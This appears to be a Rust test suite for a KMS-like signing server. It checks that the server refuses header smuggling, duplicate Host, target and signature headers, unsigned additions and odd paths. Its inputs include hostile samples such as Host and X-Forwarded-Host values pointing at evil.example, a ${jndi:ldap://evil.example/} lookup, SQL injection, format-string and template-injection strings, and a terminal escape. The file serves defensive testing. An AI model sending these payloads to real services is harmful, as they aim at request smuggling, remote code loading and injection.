//! Header smuggling: one request that two readers could read as two. The signature is true, so only the
//! reading can give it away.

use crate::fixture::{Setup, start};

use super::forge::{Forged, listed, refused};

const INVALID: &str = "InvalidSignatureException";
const INCOMPLETE: &str = "IncompleteSignatureException";
/// What is told of a header that is there twice.
const ONCE: &str = "must be given only once";
/// A refusal below the API has no code.
const BELOW: &str = "";

/// A header line of an honest request, and what stands in its place.
type Edit = (&'static str, &'static str);

const TARGET: &str = "x-amz-target: TrentService.ListKeys\r\n";
const TYPE: &str = "content-type: application/x-amz-json-1.1\r\n";
const END_OF_LINE: &str = "POST / HTTP/1.1\r\n";

#[tokio::test]
async fn lines_that_are_read_in_two_ways_are_refused() {
    let server = start(Setup::default()).await;
    let honest = Forged::new(server.address).text();
    listed(&server, "what is spoiled below", &honest).await;
    let cases: [(&str, Edit, u16, &str); 19] = [
        ("a folded value", (TARGET, "x-amz-target:\r\n TrentService.ListKeys\r\n"), 400, BELOW),
        ("folded by a tab", (TARGET, "x-amz-target: TrentService.\r\n\tListKeys\r\n"), 400, BELOW),
        ("white space before the colon", (TARGET, "x-amz-target : TrentService.ListKeys\r\n"), 400, BELOW),
        ("a tab before the colon", (TARGET, "x-amz-target\t: TrentService.ListKeys\r\n"), 400, BELOW),
        (
            "white space before the first name",
            (END_OF_LINE, "POST / HTTP/1.1\r\n x-amz-target: TrentService.CreateKey\r\n"),
            400,
            BELOW,
        ),
        ("no colon", (TARGET, "x-amz-target TrentService.ListKeys\r\n"), 400, BELOW),
        ("no name", (TARGET, ": TrentService.ListKeys\r\n"), 400, BELOW),
        ("a null", (TARGET, "x-amz-target: TrentService.ListKeys\0\r\n"), 400, BELOW),
        ("a bare return", (TARGET, "x-amz-target: TrentService.ListKeys\rx: y\r\n"), 400, BELOW),
        (
            "a second target, in another case",
            (TARGET, "x-amz-target: TrentService.ListKeys\r\nX-AMZ-TARGET: TrentService.CreateKey\r\n"),
            400,
            ONCE,
        ),
        (
            "a second target, before the first",
            (TARGET, "X-Amz-Target: TrentService.CreateKey\r\nx-amz-target: TrentService.ListKeys\r\n"),
            400,
            ONCE,
        ),
        (
            "a second target, after a bare line feed",
            (TARGET, "x-amz-target: TrentService.ListKeys\nx-amz-target: TrentService.CreateKey\r\n"),
            400,
            ONCE,
        ),
        (
            "two targets in one",
            (TARGET, "x-amz-target: TrentService.ListKeys,TrentService.CreateKey\r\n"),
            400,
            INVALID,
        ),
        (
            "a second content type",
            (TYPE, "content-type: application/x-amz-json-1.1\r\nContent-Type: text/plain\r\n"),
            400,
            ONCE,
        ),
        ("a second host", ("host: ", "Host: evil.example\r\nhost: "), 400, ONCE),
        (
            "a second host, far from the first",
            (TYPE, "Host: evil.example\r\ncontent-type: application/x-amz-json-1.1\r\n"),
            400,
            ONCE,
        ),
        ("a second date", ("x-amz-date: ", "X-Amz-Date: 20261122T120100Z\r\nx-amz-date: "), 400, ONCE),
        (
            "a second signature",
            ("authorization: ", "Authorization: AWS4-HMAC-SHA256 Credential=a\r\nauthorization: "),
            400,
            ONCE,
        ),
        (
            "a token that nobody signed",
            (TARGET, "x-amz-target: TrentService.ListKeys\r\nX-Amz-Security-Token: IQoJb3JpZ2luX2Vj\r\n"),
            400,
            "UnrecognizedClientException",
        ),
    ];
    for (case, (from, to), status, code) in cases {
        assert_eq!(honest.matches(from).count(), 1, "{case}");
        refused(&server, case, honest.replacen(from, to, 1), status, code).await;
    }
}

#[tokio::test]
async fn spellings_that_mean_the_same_do() {
    let server = start(Setup::default()).await;
    let honest = Forged::new(server.address).text();
    for (case, from, to) in [
        ("names in any case", TARGET, "X-AMZ-Target: TrentService.ListKeys\r\n"),
        ("white space around a value", TARGET, "x-amz-target: \t  TrentService.ListKeys \t \r\n"),
        ("no white space", TARGET, "x-amz-target:TrentService.ListKeys\r\n"),
        ("lines that end in a line feed", TARGET, "x-amz-target: TrentService.ListKeys\n"),
        // What some gateways make one with its hyphens means nothing here.
        (
            "underscores",
            TYPE,
            "X_Amz_Target: TrentService.CreateKey\r\ncontent-type: application/x-amz-json-1.1\r\n",
        ),
        (
            "what proxies use",
            TYPE,
            "X-HTTP-Method-Override: DELETE\r\nX-Original-URL: /admin\r\ncontent-type: application/x-amz-json-1.1\r\n",
        ),
        (
            "who forwards",
            TYPE,
            "Forwarded: for=10.0.0.1\r\nX-Forwarded-Host: evil.example\r\ncontent-type: application/x-amz-json-1.1\r\n",
        ),
    ] {
        assert_eq!(honest.matches(from).count(), 1, "{case}");
        listed(&server, case, honest.replacen(from, to, 1)).await;
    }
}

#[tokio::test]
async fn a_signature_over_too_little_is_none() {
    let server = start(Setup::default()).await;
    let honest = Forged::new(server.address);
    for name in ["content-type", "host", "x-amz-date", "x-amz-target"] {
        let sent = honest.clone().not_signing(name).text();
        refused(&server, name, sent, 400, INVALID).await;
    }
    // Signed before they were there: what someone on the way can add.
    let target = honest.clone().without("x-amz-target").text();
    let added = target.replacen(END_OF_LINE, "POST / HTTP/1.1\r\nx-amz-target: TrentService.ListKeys\r\n", 1);
    refused(&server, "a target added in transit", added, 400, INVALID).await;
    refused(&server, "no target at all", target, 400, "UnknownOperationException").await;
    let token = honest.text().replacen(END_OF_LINE, "POST / HTTP/1.1\r\nx-amz-security-token: abc\r\n", 1);
    refused(&server, "a token added in transit", token, 400, "UnrecognizedClientException").await;
    let two = honest.clone().with("x-amz-target", "TrentService.CreateKey");
    let mut list = two.clone();
    list.signed.dedup();
    refused(&server, "two targets, both signed as one", list.text(), 400, ONCE).await;
    refused(&server, "a name listed twice", two.text(), 400, INCOMPLETE).await;
    let mut unsorted = honest.clone();
    unsorted.signed.reverse();
    refused(&server, "names in no order", unsorted.text(), 400, INCOMPLETE).await;
    let absent = honest.clone().with("x-amz-expected", "1").text().replacen("x-amz-expected: 1\r\n", "", 1);
    refused(&server, "a signed header that is gone", absent, 400, INVALID).await;
    for hop in ["connection", "transfer-encoding", "content-length"] {
        let mut sent = honest.clone();
        sent.signed.push(hop.to_owned());
        sent.signed.sort();
        refused(&server, hop, sent.text(), 400, INVALID).await;
    }
}

#[tokio::test]
async fn a_signature_stands_in_one_place() {
    let server = start(Setup::default()).await;
    let honest = Forged::new(server.address).text();
    for part in [
        "X-Amz-Signature=00",
        "x-amz-credential=test",
        "X-Amz-Security-Token=abc",
        "X-Amz-Expires=604800",
        "X-Amz-Dat%65=20261122T120000Z",
    ] {
        let sent = honest.replacen("POST / ", &format!("POST /?{part} "), 1);
        refused(&server, part, sent, 400, INCOMPLETE).await;
    }
    for part in ["X-Amz-Credential: test/20261122/us-east-1/kms/aws4_request", "X-Amz-Signature: 00"] {
        let sent = honest.replacen(END_OF_LINE, &format!("POST / HTTP/1.1\r\n{part}\r\n"), 1);
        refused(&server, part, sent, 400, INCOMPLETE).await;
    }
    let moved = honest.replacen("POST / ", "POST /?Action=CreateKey ", 1);
    refused(&server, "a query that was not signed", moved, 400, INVALID).await;
}

#[tokio::test]
async fn one_request_names_one_host() {
    let server = start(Setup::default()).await;
    let honest = Forged::new(server.address).text();
    let own = server.address.to_string();
    let at = |target: &str| honest.replacen("POST / ", &format!("POST {target} "), 1);
    listed(&server, "the absolute form", at(&format!("http://{own}/"))).await;
    for (case, target) in [
        ("another host", "http://evil.example/".to_owned()),
        ("another port", "http://127.0.0.1:1/".to_owned()),
        ("a user", format!("http://evil.example@{own}/")),
        ("a host as a user", format!("http://{own}@evil.example/")),
    ] {
        refused(&server, case, at(&target), 400, INVALID).await;
    }
    let line = format!("host: {own}\r\n");
    for (case, host) in
        [("no host", ""), ("an empty host", "host:\r\n"), ("another host", "host: evil.example\r\n")]
    {
        refused(&server, case, honest.replacen(&line, host, 1), 400, INVALID).await;
    }
    let two = honest.replacen(&line, &format!("host: {own}, evil.example\r\n"), 1);
    refused(&server, "two hosts in one", two, 400, INCOMPLETE).await;
}

/// A signature knows paths by what they mean; the front takes only the one that is written as it must be.
#[tokio::test]
async fn other_spellings_of_the_path_are_other_paths() {
    let server = start(Setup::default()).await;
    let honest = Forged::new(server.address).text();
    for path in ["//", "/./", "/a/..", "/%2f", "/.", "/;x"] {
        let sent = honest.replacen("POST / ", &format!("POST {path} "), 1);
        refused(&server, path, sent, 404, "UnknownOperationException").await;
    }
    for (case, line) in [
        ("no path", "POST  HTTP/1.1"),
        ("asterisk", "POST * HTTP/1.1"),
        ("authority", "CONNECT evil.example:443 HTTP/1.1"),
        ("two spaces", "POST /  HTTP/1.1"),
        ("a second path", "POST / / HTTP/1.1"),
        ("another version", "POST / HTTP/1.2"),
        ("a method in lower case", "post / HTTP/1.1"),
    ] {
        let answer = super::forge::send(&server, honest.replacen("POST / HTTP/1.1", line, 1)).await;
        assert!(answer.starts_with("HTTP/1.1 4"), "{case}: {answer}");
        assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "{case}: {answer}");
    }
}

#[tokio::test]
async fn odd_bytes_in_values_do_no_harm() {
    let server = start(Setup::default()).await;
    let honest = Forged::new(server.address).text();
    let agent = |value: &[u8]| {
        let (head, rest) = honest.split_at(END_OF_LINE.len());
        [head.as_bytes(), b"user-agent: ", value, b"\r\nx-note: ", value, b"\r\n", rest.as_bytes()].concat()
    };
    for byte in 0..=u8::MAX {
        let sent = agent(&[b'a', byte, b'z']);
        match byte {
            b'\t' | 0x20..=0x7e | 0x80.. => listed(&server, &format!("{byte:#x}"), sent).await,
            _ => refused(&server, &format!("{byte:#x}"), sent, 400, BELOW).await,
        }
    }
    let escapes = b"\x1b[31m%n%s{{7*7}}${jndi:ldap://evil.example/}' OR 1=1 --";
    refused(&server, "a terminal's escape", agent(escapes), 400, BELOW).await;
    listed(&server, "everything but that", agent(&escapes[1..])).await;
    refused(&server, "a name without end", agent(&[b'a'; 3_000]), 400, INCOMPLETE).await;
    let note = format!("POST / HTTP/1.1\r\nx-note: {}\r\n", "a".repeat(20_000));
    listed(&server, "as long as a head may be", honest.replacen(END_OF_LINE, &note, 1)).await;
    let two = honest.replacen(END_OF_LINE, "POST / HTTP/1.1\r\nuser-agent: a\r\nUser-Agent: b\r\n", 1);
    refused(&server, "two user agents", two, 400, ONCE).await;
    // Where a header has a meaning, nothing beyond ASCII does.
    for (name, code) in [("x-amz-target", INVALID), ("x-amz-date", INCOMPLETE), ("authorization", INCOMPLETE)]
    {
        let at = honest.find(&format!("{name}: ")).unwrap() + name.len() + 2;
        let (before, after) = honest.as_bytes().split_at(at);
        refused(&server, name, [before, b"\xff", after].concat(), 400, code).await;
    }
}
